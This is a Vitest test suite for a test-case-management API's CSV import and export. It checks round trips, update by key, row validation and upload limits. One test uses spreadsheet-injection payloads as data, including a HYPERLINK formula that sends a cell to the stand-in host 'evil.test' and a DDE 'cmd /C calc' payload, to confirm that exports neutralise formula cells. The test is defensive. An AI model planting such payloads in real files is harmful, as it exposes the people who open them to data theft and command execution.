import { describe, expect, it } from "vitest";
import { parseCsv } from "@/lib/cases/csv";
import { call } from "../helpers/api";
import { createProjectWithOwner } from "../helpers/factories";

const HEADER = "key,title,suite,priority,type,tags,automation,preconditions,steps,requirements";

async function setup() {
  const { owner, project } = await createProjectWithOwner();
  const base = `/api/projects/${project.id}`;
  const importCsv = (csv: string, contentType = "text/csv; charset=utf-8") =>
    call("POST", `${base}/test-cases/import`, { key: owner.key, rawBody: csv, headers: { "content-type": contentType } });
  const exportCsv = async (qs = "") => {
    const res = await call<string>("GET", `${base}/test-cases/export.csv${qs}`, { key: owner.key });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toMatch(/^text\/csv/);
    return res.body;
  };
  const cases = async (qs = "") => (await owner.api.get(`${base}/test-cases?limit=200${qs}`)).body.data as any[];
  return { owner, project, base, importCsv, exportCsv, cases };
}

/** What a case is, without ids, keys or times: what a round trip must reproduce. */
const content = (c: any) => ({
  seq: c.seq,
  title: c.title,
  suite: c.suite?.name ?? null,
  priority: c.priority,
  type: c.type,
  tags: c.tags,
  automationStatus: c.automationStatus,
  preconditions: c.preconditions,
  steps: c.steps,
});

describe("test case CSV", () => {
  it("round-trips: export, then import into another project, reproduces the cases and suites", async () => {
    const a = await setup();
    const web = (await a.owner.api.post(`${a.base}/suites`, { name: "Web" })).body;
    const checkout = (await a.owner.api.post(`${a.base}/suites`, { name: "Check, out \"now\"", parentId: web.id })).body;
    await a.owner.api.post(`${a.base}/test-cases`, {
      title: 'Pay with "quotes", commas',
      suiteId: checkout.id,
      preconditions: "Line one\nLine two, with comma\r\nLine three",
      steps: [
        { action: "Open => checkout", expected: "Total, \"shown\"" },
        { action: "Multi\nline action", expected: "" },
      ],
      priority: "CRITICAL",
      type: "REGRESSION",
      tags: ["checkout", "smoke test"],
      automationStatus: "TO_BE_AUTOMATED",
    });
    await a.owner.api.post(`${a.base}/test-cases`, { title: "  Top level  ", suiteId: web.id });
    await a.owner.api.post(`${a.base}/test-cases`, { title: "No suite, ünïcödé ✓" });
    const csv = await a.exportCsv();
    expect(csv.split("\r\n")[0]).toBe(HEADER);
    expect(csv).toContain(`${a.project.key}-1,"Pay with ""quotes"", commas","Web / Check, out ""now""",CRITICAL,REGRESSION,checkout;smoke test,TO_BE_AUTOMATED,"Line one`);

    const b = await setup();
    const imported = await b.importCsv(csv);
    expect(imported.status, JSON.stringify(imported.body)).toBe(200);
    expect(imported.body).toEqual({ created: 3, updated: 0, unchanged: 0, suitesCreated: 2, keys: [`${b.project.key}-1`, `${b.project.key}-2`, `${b.project.key}-3`] });
    expect((await b.cases()).map(content)).toEqual((await a.cases()).map(content));
    const suites = (await b.owner.api.get(`${b.base}/suites`)).body.data.map((s: { path: string[] }) => s.path.join(" > "));
    expect(suites).toEqual(["Web", 'Web > Check, out "now"']);
    // Exporting the copy gives the same file, but for the keys.
    expect((await b.exportCsv()).replaceAll(`${b.project.key}-`, "K-")).toBe(csv.replaceAll(`${a.project.key}-`, "K-"));
  });

  it("guards formula cells against spreadsheet injection, and the guarded file imports back unchanged", async () => {
    const a = await setup();
    const suite = (await a.owner.api.post(`${a.base}/suites`, { name: "@admin" })).body;
    const hostile = [
      { title: '=HYPERLINK("http://evil.test/?"&A1,"Click")', preconditions: "+cmd|' /C calc'!A0", tags: ["-x"], suiteId: suite.id },
      { title: "@SUM(1+1)*cmd", preconditions: "\tindented" },
      { title: "'=1+1 already quoted" },
      { title: "-1 is a fine number" },
    ];
    for (const c of hostile) expect((await a.owner.api.post(`${a.base}/test-cases`, c)).status).toBe(201);
    const csv = await a.exportCsv();
    const records = parseCsv(csv).slice(1);
    // Every cell a spreadsheet would evaluate starts with an apostrophe instead.
    for (const r of records) for (const f of r.fields) expect(f, f).not.toMatch(/^[=+\-@\t\r]/);
    expect(records.map((r) => r.fields[1])).toEqual([
      `'=HYPERLINK("http://evil.test/?"&A1,"Click")`,
      "'@SUM(1+1)*cmd",
      "''=1+1 already quoted",
      "'-1 is a fine number",
    ]);
    expect(records[0].fields.slice(2, 8)).toEqual(["'@admin", "MEDIUM", "FUNCTIONAL", "'-x", "MANUAL", "'+cmd|' /C calc'!A0"]);

    const b = await setup();
    const imported = await b.importCsv(csv);
    expect(imported.status, JSON.stringify(imported.body)).toBe(200);
    expect((await b.cases()).map(content)).toEqual((await a.cases()).map(content));
    expect((await b.cases()).map((c) => c.title)).toEqual(hostile.map((c) => c.title));
  });

  it("updates cases by key with a new version, creates the rest, and honours the filters on export", async () => {
    const { owner, project, base, importCsv, exportCsv, cases } = await setup();
    const first = await importCsv(
      [
        "title,suite,priority,tags,steps",
        "Login,Auth,HIGH,smoke,Open login => Form shown",
        'Logout,Auth / Session,,"smoke;auth","Click logout => Signed out\nReload => Still signed out"',
      ].join("\n"),
    );
    expect(first.status, JSON.stringify(first.body)).toBe(200);
    expect(first.body).toMatchObject({ created: 2, suitesCreated: 2 });
    const logout = (await cases()).find((c) => c.title === "Logout");
    expect(logout).toMatchObject({
      priority: "MEDIUM",
      tags: ["smoke", "auth"],
      suite: { name: "Session" },
      steps: [
        { action: "Click logout", expected: "Signed out" },
        { action: "Reload", expected: "Still signed out" },
      ],
    });

    const second = await importCsv(
      [
        "key,title,priority",
        `${project.key}-1,Login,CRITICAL`,
        `${project.key.toLowerCase()}-2,Logout,MEDIUM`,
        ",Register,LOW",
        "OTHER-7,Copied from elsewhere,",
      ].join("\r\n"),
    );
    expect(second.status, JSON.stringify(second.body)).toBe(200);
    expect(second.body).toEqual({ created: 2, updated: 1, unchanged: 1, suitesCreated: 0, keys: [`${project.key}-1`, `${project.key}-2`, `${project.key}-3`, `${project.key}-4`] });
    const login = (await owner.api.get(`${base}/test-cases/${project.key}-1`)).body;
    // Columns absent from the file are kept.
    expect(login).toMatchObject({ priority: "CRITICAL", version: 2, tags: ["smoke"], suite: { name: "Auth" }, steps: [{ action: "Open login", expected: "Form shown" }] });
    expect((await owner.api.get(`${base}/test-cases/${project.key}-1/versions`)).body.data).toHaveLength(2);
    expect((await owner.api.get(`${base}/test-cases/${project.key}-2`)).body.version).toBe(1);

    const filtered = await exportCsv("?priority=CRITICAL,LOW");
    const lines = filtered.trim().split("\r\n");
    expect(lines).toHaveLength(3);
    expect(lines[1]).toMatch(new RegExp(`^${project.key}-1,Login,Auth,CRITICAL,`));
    expect(lines[2]).toMatch(new RegExp(`^${project.key}-3,Register,,LOW,`));
    const bad = await call("GET", `${base}/test-cases/export.csv?priority=NOPE`, { key: owner.key });
    expect(bad.status).toBe(400);
  });

  it("writes nothing when any row is invalid, and names each row and column", async () => {
    const { owner, project, base, importCsv, cases } = await setup();
    await owner.api.post(`${base}/test-cases`, { title: "Existing" });
    const before = await cases();
    const csv = [
      "key,title,suite,priority,tags,automation,steps",
      "  ,Fine row,New suite,HIGH,a,MANUAL,",
      ",,New suite,LOW,,,",
      ",Bad priority,,URGENT,,,",
      "",
      `${project.key}-99,Unknown key,,,,,`,
      ',Bad steps,,,,,"[{""expected"": ""no action""}]"',
      ",Bad tag and automation,,,\"ok;\",SOMETIMES,",
      ",Too few fields",
      `${project.key}-1,Dup one,,,,,`,
      `${project.key}-1,Dup two,,,,,`,
      ",Broken JSON,,,,,[oops",
      ",Bad suite, / x,,,,",
    ].join("\n");
    const res = await importCsv(csv);
    expect(res.status).toBe(400);
    expect(res.body.error.code).toBe("VALIDATION_FAILED");
    expect(res.body.error.message).toMatch(/nothing was imported/);
    expect(res.body.error.details.map((d: { field: string }) => d.field)).toEqual([
      "row 3: title",
      "row 4: priority",
      "row 6: key",
      "row 7: steps.0.action",
      "row 8: automation",
      "row 9",
      "row 11: key",
      "row 12: steps",
      "row 13: suite",
    ]);
    expect(res.body.error.details.find((d: { field: string }) => d.field === "row 11: key").message).toContain("row 10");
    expect(await cases()).toEqual(before);
    expect((await owner.api.get(`${base}/suites`)).body.data).toEqual([]);
  });

  it("refuses bad headers, broken quoting, other content types and files over 10 MB", async () => {
    const { importCsv, cases } = await setup();
    const header = await importCsv("title,colour\nx,red\n");
    expect(header.status).toBe(400);
    expect(header.body.error.details).toEqual([{ field: "row 1: column 2", message: expect.stringContaining('Unknown column "colour"') }]);
    const noTitle = await importCsv("suite\nx\n");
    expect(noTitle.body.error.details.map((d: { field: string }) => d.field)).toEqual(["row 1: title"]);
    const unclosed = await importCsv('title,preconditions\nok,fine\nbad,"never closed\n');
    expect(unclosed.status).toBe(400);
    expect(unclosed.body.error.details).toEqual([{ field: "row 3", message: "A quoted field is not closed" }]);
    const stray = await importCsv('title\nsay "hi"\n');
    expect(stray.body.error.details[0].field).toBe("row 2");
    expect((await importCsv("title\n")).status).toBe(400);
    expect((await importCsv("")).status).toBe(400);
    const json = await importCsv('{"title":"x"}', "application/json");
    expect(json.status).toBe(415);
    const big = await importCsv("title\n" + "x".repeat(10 * 1024 * 1024));
    expect(big.status).toBe(413);
    expect(await cases()).toEqual([]);
  });
});
